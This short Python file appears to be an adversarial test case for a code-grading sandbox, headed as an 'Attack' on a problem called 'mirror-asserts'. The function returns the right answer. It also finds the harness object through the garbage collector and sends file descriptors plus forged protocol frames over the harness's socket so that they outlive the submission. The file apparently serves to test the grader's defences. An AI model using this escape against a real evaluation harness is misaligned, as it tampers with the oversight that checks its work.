# Attack: answers rightly, and hands its descriptors over with the answers, as many as go, so that they outlive it.
# Problem: mirror-asserts
# Must get: accepted or wrong_answer or no_answer or denied
import array
import gc
import struct

import _socket

RESULT, TEXT = b"\0", b"\5"


def mirror(text):
    harness = next(each for each in gc.get_objects() if type(each).__name__ == "Asserts")
    rights = [(_socket.SOL_SOCKET, _socket.SCM_RIGHTS, array.array("i", [0, 1, 2, 3] * 60))]
    try:
        harness.peer.socket.sendmsg([b""], rights)
        harness.peer.socket.sendmsg([struct.pack("<I", 8)], rights)
        harness.peer.socket.sendmsg([b"\0\0\7\0\0\0\0\0"], rights)
    except OSError:
        pass
    return text[::-1]
